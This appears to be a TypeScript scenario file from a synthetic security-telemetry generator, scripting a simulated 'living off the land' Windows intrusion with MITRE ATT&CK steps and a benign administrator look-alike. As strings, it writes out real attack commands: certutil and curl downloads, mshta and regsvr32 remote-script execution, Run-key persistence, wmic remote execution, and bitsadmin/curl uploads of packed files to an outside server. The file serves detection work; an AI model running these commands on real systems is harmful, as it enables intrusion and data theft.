import { type Process, systemSession } from "../../records/windows/host.ts";
import { connectFrom, resolveName, setRegistryValue } from "../../records/windows/sysmon.ts";
import { bluff } from "../decoys.ts";
import { type Hands, handsOn, openSession, runAll } from "../emit/hands.ts";
import { intrusion } from "../intrusion.ts";
import { officeWork } from "../ordinary.ts";
import type { Stage } from "../stage.ts";

const word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";

/** Living off the land: nothing is brought that Windows does not have. */
export const ownTools = intrusion({
  id: "living-off-the-land",
  trade: "living off the land",
  says: "A document starts Windows' own tools, which fetch, run, hide and stay; then data is packed with what is there.",
  sources: ["sysmon", "windows security"],
  steps: [
    ["document-starts", "T1204.002", "a document starts a program"],
    ["fetches", "T1105", "a tool of Windows fetches a file"],
    ["runs-by-proxy", "T1218.011", "a tool of Windows runs it"],
    ["stays", "T1547.001", "a value that starts it at each logon"],
    ["moves-on", "T1047", "a command on another machine"],
    ["packs", "T1560.001", "files are packed"],
    ["sends", "T1197", "they are sent with a tool of Windows"],
  ],
  attack(stage) {
    officeWork(stage);
    const person = stage.person(0);
    const host = stage.workstation(0);
    const files = stage.server("FS");
    const hands = handsOn(host, openSession(host, stage.account(person.name)));
    const server = stage.outside();
    const name = stage.outsideName("static");
    const reader = hands.run(stage.at(-1), word, `"${word}" /n "C:\\Users\\${person.name}\\Downloads\\offer.docm"`);
    const shell = stage.step("document-starts", () =>
      hands.run(
        stage.at(0),
        stage.by({ noisy: "cmd.exe", quiet: "mshta.exe", deceptive: "cmd.exe" }),
        stage.by({
          noisy: "cmd.exe /c certutil -urlcache -split -f",
          quiet: `mshta.exe https://${name}/help.hta`,
          deceptive: `cmd.exe /c rem ${bluff(stage)}`,
        }),
        reader,
      ),
    );
    takeHold(stage, { hands, shell, server, name });
    moveOn(stage, { hands, files, shell });
    leave(stage, server);
    return [host.name, files.name, person.name];
  },
  twin(stage) {
    officeWork(stage);
    const admin = stage.account(stage.company.adminNameOf(stage.person(2)));
    const host = stage.workstation(2);
    const files = stage.server("FS");
    stage.change({
      summary: "printer drivers and clean-up on the file server",
      from: -20,
      to: 160,
      assets: [host.name, files.name],
      accounts: [admin.name],
    });
    const hands = handsOn(host, openSession(host, admin, true));
    const shell = hands.run(stage.at(0), "powershell.exe", "powershell.exe -NoLogo");
    runAll(
      hands,
      stage.at(2),
      2,
      [
        ["certutil.exe", "certutil -hashfile C:\\Install\\driver.cab SHA256"],
        ["curl.exe", `curl.exe -o C:\\Install\\driver.cab https://drivers.${stage.company.domain}/driver.cab`],
        ["rundll32.exe", 'rundll32.exe printui.dll,PrintUIEntry /ia /m "Office Printer" /f C:\\Install\\driver.inf'],
        ["regsvr32.exe", 'regsvr32 /s "C:\\Program Files\\Scanner\\scan.dll"'],
      ],
      shell,
    );
    resolveName(host, stage.at(4), shell, `drivers.${stage.company.domain}`, ["192.0.2.61"]);
    connectFrom(host, stage.at(4) + 400, shell, { sourcePort: 50_200, address: "192.0.2.61", port: 443 });
    setRegistryValue(host, stage.at(10), shell, {
      name: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\ScannerTray",
      details: '"C:\\Program Files\\Scanner\\tray.exe" /min',
    });
    hands.run(stage.at(16), "powershell.exe", `powershell.exe -c Get-CimInstance -ComputerName ${files.name} Win32_LogicalDisk`, shell);
    handsOn(files, openSession(files, admin, true)).run(stage.at(18), "C:\\Windows\\System32\\cleanmgr.exe", "cleanmgr.exe /sagerun:1");
    hands.run(stage.at(40), "tar.exe", "tar.exe -a -cf C:\\Install\\drivers.zip C:\\Install\\drivers", shell);
  },
});

function leave(stage: Stage, server: string): void {
  const host = stage.workstation(0);
  const hands = handsOn(host, openSession(host, stage.account(stage.person(0).name)));
  stage.step("packs", () =>
    hands.run(
      stage.at(30),
      stage.by({ noisy: "C:\\Program Files\\7-Zip\\7z.exe", quiet: "tar.exe", deceptive: "makecab.exe" }),
      stage.by({
        noisy: "7z.exe a -phunter2 C:\\Users\\Public\\d.7z D:\\Projects",
        quiet: "tar.exe -cf C:\\Users\\Public\\Music\\t.zip D:\\Projects",
        deceptive: "makecab.exe /f C:\\Users\\Public\\authorised-test.ddf",
      }),
    ),
  );
  stage.step("sends", () => {
    const tool = hands.run(
      stage.at(36),
      stage.by({ noisy: "bitsadmin.exe", quiet: "curl.exe", deceptive: "bitsadmin.exe" }),
      stage.by({
        noisy: `bitsadmin /transfer up /upload /priority high http://${server}/d.7z C:\\Users\\Public\\d.7z`,
        quiet: `curl.exe -s -T C:\\Users\\Public\\Music\\t.zip https://${stage.outsideName("static")}/t`,
        deceptive: `bitsadmin /transfer test /upload http://${server}/t.cab C:\\Users\\Public\\test.cab`,
      }),
    );
    connectFrom(host, stage.at(36) + 600, tool, { sourcePort: 50_201, address: server, port: 80 });
  });
}

function moveOn(stage: Stage, { hands, files, shell }: { hands: Hands; files: ReturnType<Stage["server"]>; shell: Process }): void {
  stage.step("moves-on", () => {
    const command = stage.by({
      noisy: `wmic /node:${files.name} process call create "cmd /c whoami > C:\\w.txt"`,
      quiet: `powershell.exe -c Invoke-CimMethod -ComputerName ${files.name} Win32_Process Create -Arguments @{CommandLine='hostname'}`,
      deceptive: `wmic /node:${files.name} process call create "cmd /c echo test"`,
    });
    hands.run(stage.at(16), stage.by({ noisy: "wmic.exe", quiet: "powershell.exe", deceptive: "wmic.exe" }), command, shell);
    const provider = handsOn(files, systemSession).run(
      stage.at(16) + 900,
      "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
      "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -secured -Embedding",
      files.services,
    );
    handsOn(files, openSession(files, hands.session.account, true)).run(
      stage.at(16) + 1_500,
      "cmd.exe",
      stage.by({ noisy: "cmd /c whoami > C:\\w.txt", quiet: "hostname", deceptive: "cmd /c echo test" }),
      provider,
    );
  });
}

function takeHold(stage: Stage, { hands, shell, server, name }: { hands: Hands; shell: Process; server: string; name: string }): void {
  const { host } = hands;
  const person = stage.person(0);
  stage.step("fetches", () => {
    const tool = hands.run(
      stage.at(2),
      stage.by({ noisy: "certutil.exe", quiet: "curl.exe", deceptive: "bitsadmin.exe" }),
      stage.by({
        noisy: `certutil -urlcache -split -f http://${server}/a.txt C:\\Users\\Public\\a.dll`,
        quiet: `curl.exe -s -o C:\\Users\\${person.name}\\AppData\\Local\\Temp\\lang.dat https://${name}/lang`,
        deceptive: `bitsadmin /transfer authorised-test http://${server}/a.bin C:\\Users\\Public\\test.dll`,
      }),
      shell,
    );
    resolveName(host, stage.at(2) + 200, tool, name, [server]);
    connectFrom(host, stage.at(2) + 400, tool, {
      sourcePort: 50_200,
      address: server,
      port: stage.by({ noisy: 80, quiet: 443, deceptive: 80 }),
    });
  });
  stage.step("runs-by-proxy", () =>
    hands.run(
      stage.at(4),
      stage.by({ noisy: "regsvr32.exe", quiet: "rundll32.exe", deceptive: "rundll32.exe" }),
      stage.by({
        noisy: `regsvr32 /s /u /i:http://${server}/b.sct scrobj.dll`,
        quiet: `rundll32.exe C:\\Users\\${person.name}\\AppData\\Local\\Temp\\lang.dat,#1`,
        deceptive: "rundll32.exe C:\\Users\\Public\\test.dll,AuthorisedTest",
      }),
      shell,
    ),
  );
  stage.step("stays", () =>
    setRegistryValue(host, stage.at(8), shell, {
      name: `HKU\\${hands.session.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${stage.by({ noisy: "Updater", quiet: "LangSync", deceptive: "AuthorisedTest" })}`,
      details: stage.by({
        noisy: "regsvr32.exe /s C:\\Users\\Public\\a.dll",
        quiet: `rundll32.exe C:\\Users\\${person.name}\\AppData\\Local\\Temp\\lang.dat,#1`,
        deceptive: "rundll32.exe C:\\Users\\Public\\test.dll,AuthorisedTest",
      }),
    }),
  );
}
